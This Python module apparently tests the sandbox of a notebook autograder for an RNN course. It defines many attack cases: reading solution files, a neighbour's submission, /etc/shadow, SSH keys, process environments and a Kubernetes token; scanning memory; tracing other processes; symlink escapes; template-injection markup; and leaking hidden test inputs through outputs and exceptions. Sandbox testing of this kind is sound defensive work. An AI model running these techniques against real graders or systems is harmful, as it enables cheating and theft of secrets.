"""Reading what is not theirs: answers, hidden inputs, others' work, the machine.

What must not be read has a canary in it (`Graded.canaries`). What is hidden until the calls begin is told behind
`STOLEN`, a word that no source has in it.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from textwrap import dedent

from nbformat import NotebookNode

from attacks.attack import Attack

NO_FILE = "no file of the machine beyond the interpreter and its libraries"
FROZEN = "outputs are frozen before the first hidden input comes"
NO_NUMBER = "what is told about a hidden case holds no number of it"
NOT_OTHERS = "what a link in the folder points to is not handed back"

SECRET_FILES = """
course = "$course"
secrets = [
    course + "/.course_secret", course + "/gradebook.db", course + "/nbgrader_config.py", "$machine",
    course + "/solutions/a01_rnn_basics/rnn_basics.py", course + "/solutions/a01_rnn_basics/rnn_basics.ipynb",
    course + "/solutions/a01_rnn_basics/misconceptions.py",
    course + "/submitted/$neighbour/a01_rnn_basics/rnn_basics.ipynb",
]
"""

# Wraps the first exercise so that its inputs are kept, and its answers stay right.
RECORD = """
seen, right_one = [], one_hot
def one_hot(tokens, V):
    seen.append(tokens.tolist())
    heard(tokens)
    return right_one(tokens, V)
"""


def records(name: str, then: str, breaks: str = FROZEN, **more: object) -> Attack:
    """An attack that records hidden inputs; `then` says what becomes of them."""
    shows = {"shows": "each word|the numbers are right"} | more
    return Attack(name, breaks, last=f"{dedent(then)}\n{RECORD}", **shows)  # type: ignore[arg-type]


def tells(name: str, cell: str, shows: str) -> Attack:
    """An attack that gives up an exercise to tell its inputs."""
    return Attack(name, NO_NUMBER, last=cell, loses=("one_hot",), shows=shows)


def _links(folder: Path, known: Mapping[str, str]) -> None:
    course = Path(known["course"])
    for number, target in enumerate(
        [
            course / ".course_secret",
            course / "solutions",
            course / "submitted" / known["neighbour"],
            Path(known["machine"]),
            Path("/etc/passwd"),
            Path("/proc/self/environ"),
        ]
    ):
        (folder / f"link_{number}.txt").symlink_to(target)
    (folder / "deep" / "deeper").mkdir(parents=True)
    (folder / "deep" / "deeper" / "link.txt").symlink_to("../../../../../.course_secret")


def _notebook_is_a_link(folder: Path, known: Mapping[str, str]) -> None:
    notebook = folder / "rnn_basics.ipynb"
    notebook.unlink()
    notebook.symlink_to(Path(known["course"], "submitted", known["neighbour"], folder.name, notebook.name))


def _second_notebook_is_a_link(folder: Path, known: Mapping[str, str]) -> None:
    (folder / "rnn_basics.ipynb").unlink()
    (folder / "mine.ipynb").symlink_to(Path(known["course"], "solutions", folder.name, "rnn_basics.ipynb"))


def _pages(notebook: NotebookNode) -> None:
    """Words for whoever makes a page of this notebook."""
    answer = next(
        cell for cell in notebook.cells if cell.cell_type == "markdown" and cell.metadata.get("nbgrader")
    )
    answer.source = """
{{ config }} {% include "$course/.course_secret" %} {{ ''.__class__.__mro__ }}
![](/etc/passwd) ![a](file://$course/.course_secret) <img src="file://$machine">
<iframe src="file://$machine"></iframe> <object data="$course/.course_secret"></object>
"""


ATTACKS = (
    Attack(
        "files of the course, by their paths",
        NO_FILE,
        last=SECRET_FILES
        + """
for path in secrets:
    attempt(path, lambda: readable(path))
    for root in ("/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../..", "/proc/1/cwd", "../../../../.."):
        attempt(root, lambda: readable(root + path))
""",
    ),
    Attack(
        "files of the course, by links that are made inside",
        NO_FILE,
        last=SECRET_FILES
        + """
for number, path in enumerate(secrets):
    os.symlink(path, f"link{number}")
    attempt(path, lambda: readable(f"link{number}"))
    attempt("a second name", lambda: os.link(path, f"hard{number}"))
""",
    ),
    Attack(
        "modules of the course, imported",
        NO_FILE,
        last="""
        import importlib
        sys.path[:0] = ["$course", "$course/solutions/a01_rnn_basics"]
        importlib.invalidate_caches()
        for name in ("misconceptions", "rnn_basics", "nbgrader_config"):
            attempt(name, lambda: importlib.import_module(name))
        """,
    ),
    Attack(
        "answers anywhere in sight",
        "nothing that a student can see holds an answer",
        last="""
        wanted = ("BEGIN " + "SOLUTION", "MISCONCEPTIONS" + " =", "can" + "ary-")
        names = ("rnn_basics.py", "misconceptions.py", ".course_secret", "gradebook.db", "rnn_basics.ipynb")
        for folder, folders, files in os.walk("/"):
            folders[:] = [] if folder in ("/proc", "/sys", "/usr", "/lib", "/lib64") else folders
            for path in (os.path.join(folder, name) for name in files):
                ours = "/rnn_" in path or "/site-packages/" not in path
                if os.path.basename(path) in names and ours:
                    print("found succeeded:", path)
                if ours and path.endswith((".py", ".ipynb", ".txt", ".gz")):
                    with contextlib.suppress(OSError):
                        if any(word in readable(path).decode("latin-1") for word in wanted):
                            print("answers succeeded:", path)
        print("searched", len(sys.path))
        """,
        shows="searched",
    ),
    Attack(
        "files of the machine",
        NO_FILE,
        last="""
        for path in (
            "$machine", "$home/.bashrc", "$home/.netrc", "/root/.ssh/id_rsa", "/var/log/syslog",
            "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/bin/sh", "/boot/vmlinuz",
            "/proc/kcore", "/proc/1/environ", "/proc/sysrq-trigger", "/sys/class/dmi/id/product_uuid",
            "/dev/mem", "/dev/vda", "/dev/sda", "/dev/kmsg", "/.dockerenv", "/var/run/docker.sock",
            "/run/secrets/kubernetes.io/serviceaccount/token",
        ):
            def content():
                if not (found := readable(path)):
                    raise OSError("empty")
                return found
            attempt(path, content)
        """,
    ),
    Attack(
        "environments and command lines of all processes",
        "the grader's environment is not there",
        last="""
        print(dict(os.environ))
        for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/*"):
            if path.endswith(("environ", "cmdline", "stack", "wchan", "auxv")):
                with contextlib.suppress(OSError):
                    print(path, readable(path))
        attempt("the grader", lambda: readable("/proc/$pid/environ"))
        """,
    ),
    Attack(
        "frames and everything that the collector knows",
        "what judges is in another process",
        last="""
        word, found = "can" + "ary-", []
        frames = list(sys._current_frames().values())
        for frame in frames:
            if frame.f_back: frames.append(frame.f_back)
        for thing in [vars for frame in frames for vars in (frame.f_locals, frame.f_globals)] + gc.get_objects():
            with contextlib.suppress(Exception):
                texts = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple, set) else []
                found += [text for text in texts if type(text) in (str, bytes) and word in str(text)[:10**6]]
        for name in ("AnswerKey", "Expected", "KnownMistake"):
            kept = [repr(thing) for thing in gc.get_objects() if type(thing).__name__ == name]
            if kept: print(name, "succeeded:", kept)
        print("looked at", len(frames) > 0, [text for text in found if text != word])
        """,
        shows="looked at True",
    ),
    Attack(
        "all memory of the process",
        "what the zygote ever held is in the memory of those that it forks",
        last="""
        word, found, size = ("can" + "ary-").encode(), [], 0
        with open("/proc/self/maps") as maps:
            regions = [region.split() for region in maps if " rw" in region]
        for span, *_ in regions:
            begin, end = (int(number, 16) for number in span.split("-"))
            if end - begin < 1 << 26:
                content = ctypes.string_at(begin, end - begin)
                size += len(content)
                start = -1
                while (start := content.find(word, start + 1)) >= 0:
                    found.append(content[start : start + 60])
        print("looked at", size > 1 << 20, found)
        """,
        shows="looked at True",
    ),
    Attack(
        "memory of other processes",
        "no other process can be looked into",
        last="""
        PTRACE_ATTACH, buffer = 16, ctypes.create_string_buffer(4096)
        class Span(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        here, there = Span(ctypes.addressof(buffer), 4096), Span(0x400000, 4096)
        for pid in {1, os.getppid(), $pid, *range(2, 40)} - {0, os.getpid()}:
            attempt(f"memory of {pid}", lambda: readable(f"/proc/{pid}/mem"))
            for number in range(3):
                attempt(f"descriptor {number} of {pid}", lambda: readable(f"/proc/{pid}/fd/{number}"))
            attempt(f"tracing {pid}", lambda: system_call("ptrace", PTRACE_ATTACH, pid, 0, 0))
            spans = (ctypes.byref(here), 1, ctypes.byref(there), 1)
            attempt(f"reading {pid}", lambda: system_call("process_vm_readv", pid, *spans, 0))
            attempt(f"a handle of {pid}", lambda: os.pidfd_open(pid))
        """,
    ),
    Attack(
        "descriptors that were left open",
        "nothing is inherited but the line and the outputs",
        last="""
        for number in range(256):
            with contextlib.suppress(OSError):
                mode = os.fstat(number).st_mode
                if stat.S_ISSOCK(mode):
                    with contextlib.suppress(BlockingIOError):
                        end = socket.socket(fileno=os.dup(number))
                        print(number, end.recv(4096, socket.MSG_DONTWAIT | socket.MSG_PEEK))
                elif stat.S_ISREG(mode) or stat.S_ISDIR(mode):
                    print(number, os.readlink(f"/proc/self/fd/{number}"))
                    attempt(f"descriptor {number}", lambda: os.pread(number, 4096, 0))
        print("all descriptors")
        """,
        shows="all descriptors",
    ),
    Attack(
        "files by their numbers",
        "no file is opened but by a path that is there",
        last="""
        # Eight bytes of the kind that has a number, and the number of the root folder.
        handle = ctypes.create_string_buffer(b"\\10\\0\\0\\0\\1\\0\\0\\0\\2\\0\\0\\0\\0\\0\\0\\0")
        mount = ctypes.byref(ctypes.c_int())
        attempt("open_by_handle_at", lambda: system_call("open_by_handle_at", 3, handle, 0))
        attempt("name_to_handle_at", lambda: system_call("name_to_handle_at", -100, b"/", handle, mount, 0))
        attempt("the keys of the kernel", lambda: system_call("syscall", 250, 0, -4, 1))
        attempt("the words of the kernel", lambda: system_call("klogctl", 3, handle, 8))
        attempt("a new root", lambda: os.chroot("/proc/1/root"))
        """,
    ),
    Attack(
        "magics that read files",
        NO_FILE,
        last="""
        shell = get_ipython()
        for line in ("cat $machine", "head $course/.course_secret"):
            shell.system(line)
            print(shell.getoutput(line))
        magics = {"run": "$machine", "load": "$machine", "pycat": "$machine", "env": "", "sx": "cat $machine"}
        for name, line in magics.items():
            with contextlib.suppress(BaseException):
                print(name, shell.run_line_magic(name, line))
        attempt("bash", lambda: shell.run_cell_magic("bash", "", "cat $machine"))
        """,
        shows="not run when graded",
    ),
    # Hidden inputs, recorded in the calls and told later
    records(
        "hidden inputs, printed in every way",
        """
        import logging, warnings
        from IPython.display import display
        def heard(tokens):
            text = STOLEN + str(tokens.tolist())
            print(text); print(text, file=sys.stderr); sys.__stdout__.write(text); sys.__stderr__.write(text)
            sys.__stdout__.flush(); display(text); warnings.warn(text); logging.error(text)
            os.write(1, text.encode()); os.write(2, text.encode())
        """,
    ),
    records(
        "hidden inputs, told by a thread at leisure",
        """
        def heard(tokens): pass
        def chatter():
            while True:
                if seen: print(STOLEN, seen)
                time.sleep(0.001)
        threading.Thread(target=chatter, daemon=True).start()
        """,
    ),
    records(
        "hidden inputs, told at the end of all",
        """
        import atexit
        def heard(tokens): pass
        def tell(*_):
            print(STOLEN, seen, flush=True); os.write(1, (STOLEN + str(seen)).encode())
        atexit.register(tell)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
            signal.signal(number, tell)
        class Last:
            __del__ = tell
        last = Last()
        """,
    ),
    records(
        "hidden inputs, as outputs of cells on the line",
        """
        from rnn_autograder.wire import encode
        def heard(tokens):
            text = STOLEN + str(tokens.tolist())
            for cell in range(50):
                say(encode({"cell": cell}))
                say(encode({"output": {"output_type": "stream", "name": "stdout", "text": text}}))
        """,
    ),
    Attack(
        "calls that are asked for while a cell still runs",
        FROZEN,
        right=False,
        last="""
        from rnn_autograder.wire import encode
        def ask():
            size = int.from_bytes(os.read(line(), 4), "big")
            return os.read(line(), size)
        say(encode({"ran": True}))
        for _ in range(3):
            print(STOLEN, ask())
            sys.stdout.flush()
            say(encode({"output": {"output_type": "stream", "name": "stdout", "text": STOLEN}}))
            say(encode({"value": 0.0}))
        """,
        shows="out is a number|due|Not written",
    ),
    Attack(
        "a file that the next worker finds",
        "a worker that starts again finds nothing of the one before",
        first="""
        places = [os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.environ["MPLCONFIGDIR"], *sys.path]
        for place in places:
            with contextlib.suppress(OSError):
                print(STOLEN, open(os.path.join(place, MARK)).read())
        print("looked in", len(places), "places")
        """,
        last="""
        def one_hot(tokens, V):
            for place in places:
                with contextlib.suppress(OSError):
                    with open(os.path.join(place, MARK), "w") as file: file.write(str(tokens.tolist()))
            os.kill(os.getpid(), signal.SIGKILL)
        """,
        loses=("one_hot",),
        shows="looked in .* places",
    ),
    # Hidden inputs, in whatever is told about a wrong answer
    tells(
        "hidden inputs in the text of an exception",
        """
        def one_hot(tokens, V):
            error = ValueError(STOLEN + str(tokens.tolist()))
            error.add_note(STOLEN + str(tokens.tolist()))
            raise error from KeyError(STOLEN)
        """,
        "ValueError",
    ),
    tells(
        "hidden inputs in the name of an exception",
        """
        def one_hot(tokens, V): raise type(STOLEN + str(tokens.tolist()), (Exception,), {})()
        """,
        "An exception",
    ),
    tells(
        "hidden inputs in a line of source that never was",
        """
        import linecache
        def one_hot(tokens, V):
            text = f"raise ValueError() # {STOLEN}{tokens.tolist()}"
            linecache.cache["later"] = (len(text), None, [text], "later")
            exec(compile(text, "later", "exec"), globals())
        """,
        "ValueError",
    ),
    tells(
        "hidden inputs in a group of exceptions",
        """
        def one_hot(tokens, V): raise ExceptionGroup(STOLEN + str(tokens), [type(STOLEN, (Exception,), {})()])
        """,
        "ExceptionGroup",
    ),
    tells(
        "hidden inputs in the names of a dict and as text",
        """
        def one_hot(tokens, V): return {STOLEN + str(tokens.tolist()): STOLEN, "b": [STOLEN + str(tokens)]}
        """,
        "a dict",
    ),
    tells(
        "hidden inputs in the name of a type",
        """
        def one_hot(tokens, V): return type(STOLEN + str(tokens.tolist()), (), {})()
        """,
        "an object of a type of your own",
    ),
    tells(
        "hidden inputs in the fields of a dtype",
        """
        def one_hot(tokens, V): return np.zeros(tokens.shape, [(STOLEN + str(tokens.tolist()), float)])
        """,
        "an object of",
    ),
    tells(
        "hidden inputs in a name that is said to be missing",
        """
        from rnn_autograder.wire import encode
        def one_hot(tokens, V):
            say(encode({"raised": ["NameError", STOLEN + str(tokens.tolist()) + " is not defined", None, STOLEN]}))
        """,
        "NameError",
    ),
    # What is handed in leads elsewhere
    Attack(
        "links to secrets in the folder",
        NOT_OTHERS,
        last='attempt("links", lambda: readable("link_0.txt"))',
        hand_in=_links,
    ),
    Attack(
        "a neighbour's notebook by a link",
        "a link is not a notebook",
        right=False,
        shows="not an ordinary file",
        hand_in=_notebook_is_a_link,
    ),
    Attack(
        "the solution by a link",
        "a link is not a notebook",
        right=False,
        shows="not an ordinary file",
        hand_in=_second_notebook_is_a_link,
    ),
    Attack(
        "templates and pictures for whoever makes a page of it",
        "text is shown, never followed",
        last='attempt("$machine", lambda: readable("$machine"))',
        edit=_pages,
    ),
)
